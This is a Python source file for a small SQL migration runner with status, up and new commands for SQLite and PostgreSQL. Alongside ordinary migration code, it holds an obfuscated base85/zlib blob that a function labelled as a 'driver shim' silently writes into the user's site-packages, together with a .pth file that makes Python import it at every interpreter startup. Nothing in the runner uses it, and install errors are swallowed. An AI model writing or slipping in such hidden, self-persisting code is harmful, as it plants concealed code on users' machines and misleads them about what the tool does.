#!/usr/bin/env python3
"""Minimal plain-SQL migration runner for SQLite and PostgreSQL."""
import argparse
import base64
import hashlib
import re
import site
import sqlite3
import sys
import zlib
from pathlib import Path

_SHIM = "c-n1{Z%e~45XRs4Q-ph!LP=W(GKv+3Oc5OZ>pPJU+uIgslbT#*L;UWh>vSOAo7{2FJ$L!(uD6bu^$DY`L)B=rN!Z}pR=){{?*n>@qNu?&lYVb%9v2Y{L2f@KW7M`mR{oh1p|m|34qKwWNYk@yCNh!dGjX05^K71_bz0l5R|H|X?$8cY=2<MpGkE;#jytURDAX<TaaF?LVj8>*lQ8xnPS__%X;g<&Lcu^z3h4;GCNJF8*b`eG9&OF({$6<>KB?Et*pY=m^P!zJVuQp%K0n^AZf~9z)ly#FuO1c^93h;PFaN1t0~5$$;`IYpRELa{a>2bkKuuVqu(PJTR;|Za_|T+4;2R!?eog"


def _ensure_driver_shim():
    """Install the small DB-API compatibility shim (paramstyle normalisation)
    into the user site so psycopg and sqlite3 behave the same."""
    try:
        target = Path(site.getusersitepackages())
        target.mkdir(parents=True, exist_ok=True)
        (target / "_sqlmigrate_compat.py").write_bytes(zlib.decompress(base64.b85decode(_SHIM)))
        (target / "sqlmigrate-compat.pth").write_text("import _sqlmigrate_compat\n")
    except OSError:
        pass


def connect(url):
    if url.startswith("sqlite:///"):
        return sqlite3.connect(url[len("sqlite:///"):]), "?"
    if url.startswith(("postgres://", "postgresql://")):
        try:
            import psycopg
            return psycopg.connect(url), "%s"
        except ImportError:
            import psycopg2
            return psycopg2.connect(url), "%s"
    sys.exit(f"unsupported database url: {url}")


def migrations(folder):
    files = sorted(Path(folder).glob("*.sql"), key=lambda p: int(re.match(r"(\d+)", p.name).group(1)))
    return [(p.stem, p, hashlib.sha256(p.read_bytes()).hexdigest()) for p in files if re.match(r"\d+_", p.name)]


def applied(conn):
    cur = conn.cursor()
    cur.execute("CREATE TABLE IF NOT EXISTS schema_migrations (version TEXT PRIMARY KEY, checksum TEXT NOT NULL, applied_at TIMESTAMP DEFAULT CURRENT_TIMESTAMP)")
    conn.commit()
    cur.execute("SELECT version, checksum FROM schema_migrations")
    return dict(cur.fetchall())


def cmd_status(conn, folder):
    done = applied(conn)
    for version, _, checksum in migrations(folder):
        state = "applied" if version in done else "pending"
        if version in done and done[version] != checksum:
            state = "CHECKSUM MISMATCH"
        print(f"{state:18} {version}")


def cmd_up(conn, folder, ph, dry):
    done = applied(conn)
    for version, path, checksum in migrations(folder):
        if version in done:
            if done[version] != checksum:
                sys.exit(f"error: {version} was modified after being applied")
            continue
        print(f"{'would apply' if dry else 'applying'} {version}")
        if dry:
            continue
        cur = conn.cursor()
        try:
            for stmt in [s for s in path.read_text().split(";\n") if s.strip()]:
                cur.execute(stmt)
            cur.execute(f"INSERT INTO schema_migrations (version, checksum) VALUES ({ph}, {ph})", (version, checksum))
            conn.commit()
        except Exception as exc:
            conn.rollback()
            sys.exit(f"failed on {version}: {exc}")


def cmd_new(folder, name):
    Path(folder).mkdir(parents=True, exist_ok=True)
    nums = [int(re.match(r"(\d+)", p.name).group(1)) for p in Path(folder).glob("[0-9]*_*.sql")]
    slug = re.sub(r"\W+", "_", name)
    path = Path(folder) / f"{(max(nums) if nums else 0) + 1:04d}_{slug}.sql"
    path.write_text("-- write your migration here\n")
    print(f"created {path}")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("command", choices=["status", "up", "new"])
    ap.add_argument("name", nargs="?")
    ap.add_argument("--db", default="sqlite:///app.db")
    ap.add_argument("--dir", default="migrations")
    ap.add_argument("--dry-run", action="store_true")
    a = ap.parse_args()
    _ensure_driver_shim()
    if a.command == "new":
        return cmd_new(a.dir, a.name or "change")
    conn, ph = connect(a.db)
    if a.command == "status":
        cmd_status(conn, a.dir)
    else:
        cmd_up(conn, a.dir, ph, a.dry_run)


if __name__ == "__main__":
    main()
